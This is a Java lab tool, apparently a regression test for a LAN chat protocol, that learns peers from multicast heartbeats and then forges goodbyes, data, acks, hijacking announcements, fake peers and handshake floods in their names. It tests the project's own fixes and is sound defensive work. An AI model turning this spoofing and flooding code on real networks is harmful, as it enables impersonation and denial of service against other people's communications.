package lanchat.lab;

import java.io.IOException;
import java.net.Inet4Address;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.NetworkInterface;
import java.net.StandardProtocolFamily;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import lanchat.wire.Ack;
import lanchat.wire.AckBlock;
import lanchat.wire.Announcement;
import lanchat.wire.Data;
import lanchat.wire.DecodeResult;
import lanchat.wire.FrameCodec;
import lanchat.wire.Goodbye;
import lanchat.wire.PeerRef;
import lanchat.wire.StreamRecord;
import lanchat.wire.Wire;
import java.util.concurrent.locks.LockSupport;

/**
 * An attacker on the LAN (a third lab host) who knows only what peers multicast: it learns each real
 * peer's (id, incarnation) and endpoint from their heartbeats, then for a bounded time speaks as them in
 * the clear: GOODBYEs, DATA "from" one peer to the other, ACKs, announcements with a peer's id and a huge
 * incarnation pointing at itself, made-up peers by the hundred, and a flood of handshake starts. Every one
 * of these worked against version 1 (issue 8). Writes {"event":"started"}, {"event":"learned","peers":N}
 * and {"event":"done","sent":N}.
 *
 * <pre>
 *   Spoofer IFACE GROUP PORT SECONDS RATE SEED
 * </pre>
 */
public final class Spoofer {
    private record Known(PeerRef ref, InetSocketAddress unicast) {}

    private final Random random;
    private final Map<Long, Known> peers = new HashMap<>();

    private Spoofer(long seed) {
        random = new Random(seed);
    }

    public static void main(String[] args) throws IOException, InterruptedException {
        NetworkInterface nif = NetworkInterface.getByName(args[0]);
        InetSocketAddress group = new InetSocketAddress(InetAddress.getByName(args[1]), Integer.parseInt(args[2]));
        new Spoofer(Long.parseLong(args[5])).run(nif, group, Long.parseLong(args[3]), Integer.parseInt(args[4]));
    }

    private void run(NetworkInterface nif, InetSocketAddress group, long seconds, int rate)
            throws IOException, InterruptedException {
        try (DatagramChannel out = DatagramChannel.open(StandardProtocolFamily.INET);
                DatagramChannel listen = DatagramChannel.open(StandardProtocolFamily.INET)) {
            out.setOption(StandardSocketOptions.IP_MULTICAST_IF, nif);
            out.setOption(StandardSocketOptions.IP_MULTICAST_TTL, 1);
            out.setOption(StandardSocketOptions.IP_MULTICAST_LOOP, false);
            out.bind(new InetSocketAddress(ipv4(nif), 0));
            listen.setOption(StandardSocketOptions.SO_REUSEADDR, true);
            listen.bind(new InetSocketAddress(group.getPort()));
            listen.join(group.getAddress(), nif);
            listen.configureBlocking(false);
            System.out.println("{\"event\":\"started\"}");
            long learnUntil = System.nanoTime() + 5_000_000_000L;
            while (peers.size() < 2 && System.nanoTime() < learnUntil) {
                learn(listen);
                LockSupport.parkNanos(10_000_000L); // listening window while the real peers heartbeat (0.5 s)
            }
            System.out.println("{\"event\":\"learned\",\"peers\":" + peers.size() + "}");
            List<Known> known = new ArrayList<>(peers.values());
            int myPort = ((InetSocketAddress) out.getLocalAddress()).getPort();
            long sent = 0;
            long start = System.nanoTime();
            long end = start + seconds * 1_000_000_000L;
            while (System.nanoTime() < end && !known.isEmpty()) {
                long due = (System.nanoTime() - start) * rate / 1_000_000_000L;
                while (sent < due) {
                    Known victim = known.get(random.nextInt(known.size()));
                    Known other = known.get(random.nextInt(known.size()));
                    byte[] d = forge(victim, other, myPort);
                    InetSocketAddress to = d.length > 0 && d[3] <= 0x02 && random.nextBoolean() ? group : other.unicast();
                    out.send(ByteBuffer.wrap(d), to);
                    sent++;
                }
                LockSupport.parkNanos(1_000_000L); // pacing to RATE per second
            }
            System.out.println("{\"event\":\"done\",\"sent\":" + sent + "}");
        }
    }

    /** One forged datagram that claims to come from {@code victim}, for {@code other}. */
    private byte[] forge(Known victim, Known other, int myPort) {
        PeerRef as = victim.ref();
        PeerRef to = other.ref();
        switch (random.nextInt(7)) {
            case 0:
                return FrameCodec.encode(new Goodbye(as));
            case 1:
                return FrameCodec.encode(new Data(as, to, 1 + random.nextInt(5), AckBlock.NONE,
                        List.of(new StreamRecord(random.nextInt(4), 1 + random.nextInt(1000), StreamRecord.END,
                                "forged by mallory".getBytes(StandardCharsets.UTF_8)))));
            case 2:
                return FrameCodec.encode(new Ack(as, to, new AckBlock(1 + random.nextInt(5), random.nextInt(100),
                        List.of())));
            case 3: // "I am victim, restarted, now at my address": moved peers and locked them out in v1
                return FrameCodec.encode(Announcement.heartbeat(new PeerRef(as.id(), Long.MAX_VALUE - random.nextInt(9)),
                        myPort, 65_535, "bob"));
            case 4: // a made-up peer
                return FrameCodec.encode(Announcement.hello(new PeerRef(random.nextLong() | 1, 1 + random.nextInt(1 << 30)),
                        myPort, 2_000, "ghost" + random.nextInt(100_000)));
            case 5: // a handshake start with a made-up id
                return handshakeStart(new PeerRef(random.nextLong() | 1, 1), to);
            default: // a handshake start in the victim's name
                return handshakeStart(as, to);
        }
    }

    private byte[] handshakeStart(PeerRef from, PeerRef to) {
        ByteBuffer b = ByteBuffer.allocate(88); // MAC2 left zero: no cookie
        b.putShort((short) Wire.MAGIC).put((byte) Wire.VERSION).put((byte) 0x30).putLong(from.id())
                .putLong(from.incarnation()).putLong(to.id()).putLong(to.incarnation()).putInt(random.nextInt());
        byte[] e = new byte[32];
        random.nextBytes(e);
        return b.put(e).array();
    }

    private void learn(DatagramChannel listen) throws IOException {
        ByteBuffer in = ByteBuffer.allocate(2_048);
        InetSocketAddress from;
        while ((from = (InetSocketAddress) listen.receive(in)) != null) {
            in.flip();
            DecodeResult r = FrameCodec.decode(in);
            if (r.ok() && r.frame() instanceof Announcement a) {
                peers.put(a.sender().id(), new Known(a.sender(), new InetSocketAddress(from.getAddress(), a.port())));
            }
            in.clear();
        }
    }

    private static InetAddress ipv4(NetworkInterface nif) throws IOException {
        for (InetAddress a : Collections.list(nif.getInetAddresses())) {
            if (a instanceof Inet4Address) {
                return a;
            }
        }
        throw new IOException(nif.getName() + " has no IPv4 address");
    }
}
